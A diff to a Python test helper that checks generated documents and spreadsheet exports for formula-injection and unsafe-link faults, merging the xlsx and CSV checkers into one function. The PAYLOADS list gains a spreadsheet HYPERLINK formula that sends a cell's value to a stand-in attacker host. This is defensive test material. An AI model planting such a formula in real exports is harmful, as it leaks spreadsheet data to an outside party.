@@ -10,12 +10,14 @@ the PDF's attachments and link annotations read back.
 from __future__ import annotations
 
 import base64
+import csv
 import hashlib
 import io
 import random
 import re
 import shutil
 import signal
+import zipfile
 from collections.abc import Iterator
 from contextlib import contextmanager
 from html.parser import HTMLParser
@@ -44,6 +46,7 @@ PAYLOADS = [
     "zero\u200bwidth\u200djoiner\ufeff",
     "ligne\rretour\u2028séparateur",
     "&lt;script&gt; &amp; &#60;script&#62;",
+    '=HYPERLINK("http://attacker.example/?"&A1,"clic")',
 ]
 """Hostile texts: markup, URLs, CSS, Jinja, very long words, invisible and line-breaking characters."""
 
@@ -129,23 +132,6 @@ def docx_faults(content: bytes) -> list[str]:
             if rel.reltype.endswith("/hyperlink") and not SAFE_LINK.match(rel.target_ref)]
 
 
-def xlsx_faults(content: bytes) -> list[str]:
-    """A workbook's cells are values: a formula would run when the auditor opens it."""
-    import openpyxl
-
-    book = openpyxl.load_workbook(io.BytesIO(content))
-    return [f"formula in {sheet.title}!{cell.coordinate}" for sheet in book.worksheets for row in sheet.iter_rows()
-            for cell in row if cell.data_type == "f"]
-
-
-def csv_faults(text: str) -> list[str]:
-    """A CSV cell a spreadsheet would read as a formula (OWASP's list of first characters)."""
-    import csv
-
-    return [f"formula-like cell {cell[:20]!r}" for row in csv.reader(io.StringIO(text)) for cell in row
-            if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
-
-
 def output_faults(folder: Path) -> list[str]:
     """Every fault of every file a command wrote into ``folder``."""
     faults = []
@@ -163,13 +149,21 @@ def output_faults(folder: Path) -> list[str]:
             faults += [f"{path.name}: {f}" for f in pdf_faults(path.read_bytes())]
         elif path.suffix == ".docx":
             faults += [f"{path.name}: {f}" for f in docx_faults(path.read_bytes())]
-        elif path.suffix == ".xlsx":
-            faults += [f"{path.name}: {f}" for f in xlsx_faults(path.read_bytes())]
-        elif path.suffix == ".csv":
-            faults += [f"{path.name}: {f}" for f in csv_faults(path.read_text(encoding="utf-8-sig"))]
         elif path.suffix == ".txt" and re.search("[\x00-\x08\x0b-\x1f\x7f]", path.read_text(encoding="utf-8")):
             faults.append(f"{path.name}: control character")
+        elif path.suffix in (".xlsx", ".ods", ".csv"):
+            faults += [f"{path.name}: {f}" for f in spreadsheet_faults(path)]
     return faults
+
+
+def spreadsheet_faults(path: Path) -> list[str]:
+    """An export that a spreadsheet would evaluate: a formula cell, or a CSV field starting like one."""
+    if path.suffix == ".csv":
+        fields = [f for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for f in row]
+        return [f"formula field {f[:40]!r}" for f in fields if f.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    with zipfile.ZipFile(path) as archive:
+        parts = [n for n in archive.namelist() if n.startswith("xl/worksheets/") or n == "content.xml"]
+        return [f"formula in {n}" for n in parts if re.search(rb"<f[ >]|table:formula=", archive.read(n))]
 
 
 def files_of(root: Path) -> list[Path]:
